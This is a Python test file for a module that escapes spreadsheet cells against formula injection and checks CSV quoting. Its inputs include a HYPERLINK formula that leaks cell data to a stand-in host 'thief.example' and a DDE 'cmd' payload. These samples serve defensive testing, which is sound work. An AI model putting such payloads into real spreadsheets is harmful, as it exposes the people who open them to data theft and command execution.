"""Cells of a spreadsheet: texts of strangers never run in it."""

import csv

import pytest

from dazor.text import sheet


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://thief.example/?"&A1;"click")',
        "+7 029 000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "＝1+1",
        "|calc",
    ],
)
def test_what_begins_like_a_formula_is_text(text):
    assert f"'{text}" == sheet.cell(text)


@pytest.mark.parametrize("text", ["Река вышла", "«Цитата»", "a=b", "", "https://prudok.example/=1"])
def test_other_texts_stay_as_they_are(text):
    assert text == sheet.cell(text)


def test_nothing_is_an_empty_cell_and_a_number_its_digits():
    assert ["", "7"] == [sheet.cell(None), sheet.cell(7)]


def test_table_is_read_back_whole():
    rows = [["a;b", 'say "да"', "two\nlines"], ["1,5", "x\0y", ""]]

    read = list(csv.reader("\n".join(sheet.lines(["one", "two", "three"], rows)).splitlines(keepends=True)))

    assert [["one", "two", "three"], rows[0], ["1,5", "xy", ""]] == read


def test_no_cell_breaks_out_of_its_quotation_marks():
    """A formula behind a quotation mark and a comma is still inside the cell."""
    (line,) = list(sheet.lines(['a",=1+1,"b'], []))

    assert [['a",=1+1,"b']] == list(csv.reader([line]))
